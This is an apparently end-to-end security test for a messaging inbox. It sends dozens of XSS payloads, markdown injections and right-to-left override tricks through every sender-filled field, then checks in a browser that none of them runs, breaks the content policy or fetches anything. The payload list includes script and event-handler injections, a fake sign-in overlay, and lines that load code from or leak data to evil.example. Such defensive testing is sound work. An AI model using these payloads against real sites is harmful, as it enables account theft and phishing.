// Attacks in HTML, markdown and script, in every field that a far side fills: text, html, names, handles, subjects, file
// names and the rest. They arrive by signed calls and are opened in Chromium, where nothing of them may run, open a
// dialogue, break the content policy or ask for anything outside. SWITCHBOARD_FULL=1 sends five hundred. Marks that turn the
// direction of writing come in the same fields, and may turn nothing but themselves.
import assert from "node:assert/strict";
import { before, describe, test } from "node:test";
import { atTheEnd, deliver, openWindow, setupLink, sizes, startBrowser, startHouse, step } from "./lib.mjs";

const wanted = process.env.SWITCHBOARD_FULL ? 500 : 60;
const password = "a correct horse at the switchboard";
const secret = "a secret of at least sixteen characters";

/** Each tries to set window.__pwned, to open a dialogue or to fetch something from evil.example. */
const payloads = [
  "<script>window.__pwned=1</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=window.__pwned=1>",
  "<img src=\"https://evil.example/pixel.gif\" width=1 height=1>",
  "<img srcset=\"https://evil.example/a.png 1x\" src=x>",
  "<svg onload=window.__pwned=1>",
  "<svg><script>window.__pwned=1</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><use href=\"https://evil.example/x.svg#a\"></use></svg>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>",
  "<math><mi//xlink:href=\"data:x,<script>window.__pwned=1</script>\">",
  "<iframe src=\"javascript:parent.__pwned=1\"></iframe>",
  "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
  "<iframe src=https://evil.example/></iframe>",
  "<object data=\"data:text/html,<script>window.__pwned=1</script>\"></object>",
  "<embed src=https://evil.example/x.swf>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
  "<style>*{background:url(https://evil.example/?leak)}</style>",
  "<div style=\"background:url(https://evil.example/bg.png)\">x</div>",
  "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">Your session has ended. <a href=https://evil.example/>Sign in</a></div>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "<form action=https://evil.example/><input name=password autofocus onfocus=window.__pwned=1><button>Go</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=window.__pwned=1>x</details>",
  "<video src=https://evil.example/x.mp4 poster=https://evil.example/p.png autoplay onerror=window.__pwned=1></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<body onload=window.__pwned=1>",
  "<marquee onstart=window.__pwned=1>x</marquee>",
  "<a href=\"javascript:window.__pwned=1\">click</a>",
  "<a href=\" &#106;avascript:window.__pwned=1\">click</a>",
  "<a href=\"java\tscript:window.__pwned=1\">click</a>",
  "<a href=\"data:text/html,<script>window.__pwned=1</script>\">click</a>",
  "<a href=\"vbscript:msgbox(1)\">click</a>",
  "<a href=\"https://evil.example/\" ping=\"https://evil.example/ping\" target=_top>click</a>",
  "<template><script>window.__pwned=1</script></template>",
  "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
  "<p title=\"<!--\"><img src=x onerror=window.__pwned=1>-->",
  "<!--><img src=x onerror=window.__pwned=1>-->",
  "<![CDATA[><script>window.__pwned=1</script>]]>",
  "<xss id=x tabindex=1 onfocus=window.__pwned=1></xss>",
  "<portal src=https://evil.example/></portal>",
  "<table background=https://evil.example/t.png><td>x</table>",
  "<select><iframe></select><img src=x: onerror=window.__pwned=1>",
  "\"><script>window.__pwned=1</script>",
  "'-alert(1)-'",
  "\";window.__pwned=1;//",
  "</script><script>window.__pwned=1</script>",
  "</title><script>window.__pwned=1</script>",
  "</textarea><script>window.__pwned=1</script>",
  "{{constructor.constructor('window.__pwned=1')()}}",
  "${window.__pwned=1}",
  "[click](javascript:window.__pwned=1)",
  "![x](https://evil.example/pixel.png)",
  "[x]: javascript:window.__pwned=1\n[x]",
  "<javascript:window.__pwned=1>",
  "<https://evil.example/\"onmouseover=\"window.__pwned=1>",
  "`<img src=x onerror=window.__pwned=1>`",
  "\u202Egnp.exe\u202C<b onclick=alert(1)>\u2066x",
  "<scr\0ipt>window.__pwned=1</scr\0ipt>",
  "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
  "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
  "\uFF1Cscript\uFF1Ewindow.__pwned=1\uFF1C/script\uFF1E",
  "javascript:window.__pwned=1",
  "__proto__",
  "<" .repeat(2000) + "img src=x onerror=window.__pwned=1>",
];

/** What a text can be wrapped in; the first is as it is. */
const wraps = [
  (p) => p,
  (p) => `Hello <b>there</b> ${p} and goodbye`,
  (p) => `<div><p>${p}</p></div>`,
  (p) => `<a href="https://shop.example/">${p}</a>`,
  (p) => `<blockquote><pre><code>${p}`,
  (p) => p.toUpperCase().replaceAll("__PWNED", "__pwned").replaceAll("WINDOW", "window"),
  (p) => `${p}\n\n${p}`,
  (p) => `<!-- ${p} --> ${p}`,
];

/** The places of a message that a far side fills, each made of one attack. */
const places = [
  (m, p) => ({ ...m, html: p, text: p }),
  (m, p) => ({ ...m, html: `<p>${p}</p>` }),
  (m, p) => ({ ...m, from: { ...m.from, name: line(p), handle: line(p) } }),
  (m, p) => ({ ...m, subject: line(p), warning: line(p) }),
  (m, p) => ({ ...m, media: [{ name: line(p), type: "image/svg+xml", alt: line(p), body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${p}</svg>`).toString("base64") }] }),
  (m, p) => ({ ...m, quoted: p, lang: "en", to: [{ remoteId: "other", name: line(p), handle: line(p) }] }),
  (m, p) => ({ ...m, url: "https://shop.example/?" + encodeURIComponent(p), from: { ...m.from, url: "https://shop.example/" } }),
];

/** Nothing that is one line holds a break or a byte that no text holds, and it has its greatest length. */
const line = (p) => p.replace(/[\n\0]/g, " ").slice(0, 900);

function attacks(n) {
  return Array.from({ length: n }, (_, i) => {
    const p = wraps[Math.floor(i / payloads.length) % wraps.length](payloads[i % payloads.length]).replaceAll("\0", "");
    const base = { remoteId: `attack-${i}`, threadId: `thread-${i}`, text: `Attack number ${i}`, private: i % 3 === 0, from: { remoteId: `attacker-${i}`, name: `Attacker ${i}`, handle: `attacker${i}` } };
    return { ...places[i % places.length](base, p), remoteId: base.remoteId };
  });
}

/** Marks that turn what follows, some of which first close what a page has opened around them; and letters that are written so. */
const turners = [
  "\u202E", // from here on right to left
  "\u202D\u202E\u202B",
  "\u2067", // an island from right to left that is never closed
  "\u2069\u202E", // closes an island of the page first
  "\u202C\u2069\u2069\u2069\u202E",
  "\u2066".repeat(130), // deeper than marks may be nested
  "\u200F",
  "\u05D0\u05D1\u05D2 ",
  "\u202E\u05D0\u05D1 \u2069\u0661\u0662 ",
];

/** In every field of a message. */
function turned(mark, i) {
  const evil = `${mark}elgoog${i} (12)`;
  return {
    remoteId: `turned-${i}`,
    threadId: `turning-${i}`,
    private: i % 2 === 0,
    from: { remoteId: `turner-${i}`, name: evil, handle: `@${mark}t${i}` },
    subject: evil,
    text: `${evil} see https://shop.example/a/b?c=${i}`,
    quoted: evil,
    media: [{ name: `${mark}gnp.exe`, type: "application/octet-stream", body: Buffer.from("none").toString("base64") }],
  };
}

describe("what is hostile", () => {
  const end = atTheEnd();
  let house, browser, call, account;
  before(async () => {
    house = await startHouse(end, "serve");
    browser = await startBrowser(end);
    call = caller(house);
    const token = (await setupLink(house)).split("#")[1];
    await call("POST", "/api/setup", { administrator: { name: "Grace Okafor", email: "grace@example.org", password }, organisation: { name: "ACME", publicUrl: house.address, zone: "Europe/Berlin", locale: "en-GB" }, template: "central", departments: [] }, { "Setup-Token": token });
    account = await call("POST", "/api/accounts", { channel: "hook", name: "Guest book", settings: { name: "Guest book", secret } });
  });

  test(`${wanted} attacks run nothing, open nothing and fetch nothing`, { timeout: wanted > 100 ? 1_800_000 : 240_000 }, async () => {
    const window = await openWindow(browser, house);
    const { page } = window;
    await window.context.addInitScript(() => {
      globalThis.__broken = [];
      document.addEventListener("securitypolicyviolation", (e) => globalThis.__broken.push(`${e.violatedDirective} ${e.blockedURI}`));
    });
    step(`sends ${wanted} of them by signed calls`);
    const all = attacks(wanted);
    for (let i = 0; i < all.length; i += 20) {
      await deliver(house, account.id, secret, all.slice(i, i + 20));
    }

    await signIn(page);
    const rows = await everything(call);
    assert.equal(rows.length, wanted, "each of them is in the inbox, none was lost");
    await page.goto("/inbox/all");
    await page.locator("[data-conversation]").first().waitFor();

    step("opens each, with all that can be unfolded");
    for (const row of rows) {
      await page.keyboard.press("j");
      await page.waitForURL(new RegExp(row.id));
      await page.locator('article [data-direction="in"]').first().waitFor();
      for (const name of ["Show as it was sent", "Show what was quoted", /Content warning/]) {
        const fold = page.getByRole("button", { name }).first();
        if (await fold.count()) {
          await fold.click();
        }
      }
      await harmless(page, row);
    }

    step("looks at some of the contacts, and for them by the search and the palette");
    for (const row of rows.slice(0, 12)) {
      await page.goto(`/contacts/${row.contact.id}`);
      await page.getByRole("heading").first().waitFor();
      await harmless(page, row);
    }
    await page.goto(`/inbox/all?q=${encodeURIComponent("<img src=x onerror=window.__pwned=1>")}`);
    await page.getByRole("searchbox").waitFor();
    await harmless(page, "the search");

    step("every file is only ever a download, and runs nothing");
    for (const row of rows) {
      const { timeline } = await call("GET", `/api/conversations/${row.id}`);
      for (const media of timeline.flatMap((e) => e.media ?? [])) {
        const file = await fetch(house.address + media.url, { headers: { Cookie: call.cookie() } });
        assert.equal(file.status, 200);
        assert.equal(file.headers.get("content-type"), "application/octet-stream");
        assert.match(file.headers.get("content-disposition"), /^attachment/);
        assert.match(file.headers.get("content-security-policy"), /default-src 'none'; sandbox/);
      }
    }
    await window.close();
  });

  for (const size of Object.keys(sizes)) {
    test(`marks that turn the direction of writing turn nothing of ours, on a ${size}`, { timeout: 90_000 }, async () => {
      const window = await openWindow(browser, house, { size });
      const { page } = window;
      await deliver(house, account.id, secret, turners.map(turned)); // a second time it is known already
      await signIn(page);
      await page.goto("/inbox/all?state=any&q=elgoog0");
      await page.locator("[data-conversation]").first().waitFor();
      const lists = [await everything(call), await everything(call, "view=aside&state=open"), await everything(call, "view=all&state=closed")];
      const rows = lists.flat().filter((row) => row.excerpt.includes("elgoog")); // some want no answer
      assert.equal(rows.length, turners.length);
      await page.goto("/inbox/all");
      await page.locator("[data-conversation]").first().waitFor();
      step("the inbox");
      await inOrder(page, "the inbox");
      for (const row of size === "phone" ? rows.slice(0, 3) : rows) {
        step(`a conversation, and its contact: ${JSON.stringify(row.contact.name.slice(0, 20))}`);
        await page.goto(`/inbox/all/${row.id}`);
        await page.locator('article [data-direction="in"]').first().waitFor();
        await inOrder(page, row.contact.name);
        await page.goto(`/contacts/${row.contact.id}`);
        await page.locator("h1").first().waitFor({ state: "attached" }); // a name of marks alone has no width
        await inOrder(page, row.contact.name);
      }
      await window.close();
    });
  }
});

async function signIn(page) {
  await page.goto("/");
  await page.getByLabel("E-mail").fill("grace@example.org");
  await page.getByLabel("Password", { exact: true }).fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(/\/inbox\//);
}

/**
 * Asserts that every text of the page stands from left to right, letter by letter, but the stretches that hold what is
 * turned themselves; and that addresses are among what stands so.
 */
async function inOrder(page, where) {
  await page.waitForFunction(() => !document.querySelector('[role="status"][aria-label="Loading"]'));
  const { turned, links } = await page.evaluate(() => {
    const evil = /[\u0590-\u06FF\u200F\u202A-\u202E\u2066-\u2069]/;
    const turned = [];
    let links = 0;
    const nodes = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (nodes.nextNode()) {
      const text = nodes.currentNode;
      if (evil.test(text.data) || !text.parentElement.checkVisibility()) {
        continue;
      }
      links += text.data.startsWith("https://shop.example/");
      const range = document.createRange();
      let last;
      for (let i = 0; i < text.length; i++) {
        range.setStart(text, i);
        range.setEnd(text, i + 1);
        const [at] = range.getClientRects();
        if (at?.width && last && Math.abs(at.top - last.top) < 2 && at.left < last.left - 1) {
          turned.push(text.data);
          break;
        }
        last = at?.width ? at : last;
      }
    }
    for (const field of document.querySelectorAll("[placeholder]")) {
      if (evil.test(field.placeholder.replace(/\u2068[^\u2066-\u2069]*\u2069/g, ""))) {
        turned.push(field.placeholder);
      }
    }
    return { turned, links };
  });
  assert.deepEqual(turned, [], `these words of ours are turned: ${JSON.stringify(where)}`);
  assert.ok(links > 0 || !(await page.locator("article").count()), "the address in what was said is looked at, too");
}

/** Asserts that nothing of the page, or of a frame in it, has been set to work. */
async function harmless(page, where) {
  for (const frame of page.frames()) {
    const seen = await frame.evaluate(() => ({ pwned: globalThis.__pwned, broken: globalThis.__broken ?? [] })).catch(() => ({ broken: [] })); // a frame without scripts
    assert.equal(seen.pwned, undefined, `a script ran: ${JSON.stringify(where)}`);
    assert.deepEqual(seen.broken, [], `the content policy had to step in: ${JSON.stringify(where)}`);
  }
  assert.equal(await page.evaluate(() => Object.prototype.pwned), undefined);
}

/** Every conversation, in the order of the list. */
async function everything(call, list = "view=all&state=open") {
  const rows = [];
  for (let after = ""; ; ) {
    const page = await call("GET", `/api/conversations?${list}&sort=newest&limit=50${after && `&after=${after}`}`);
    rows.push(...page.items);
    if (!page.next) {
      return rows;
    }
    after = encodeURIComponent(page.next);
  }
}

/** Calls the API as a browser does, with a jar of its own. */
function caller(house) {
  let cookie = "";
  const call = async (method, path, body, headers = {}) => {
    const answer = await fetch(house.address + path, {
      method,
      headers: { "Content-Type": "application/json", Origin: house.address, ...(cookie && { Cookie: cookie }), ...headers },
      ...(body && { body: JSON.stringify(body) }),
    });
    cookie = answer.headers.getSetCookie().map((c) => c.split(";")[0]).join("; ") || cookie;
    const text = await answer.text();
    assert.ok(answer.ok, `${method} ${path}: ${answer.status} ${text}`);
    return text ? JSON.parse(text) : undefined;
  };
  call.cookie = () => cookie;
  return call;
}
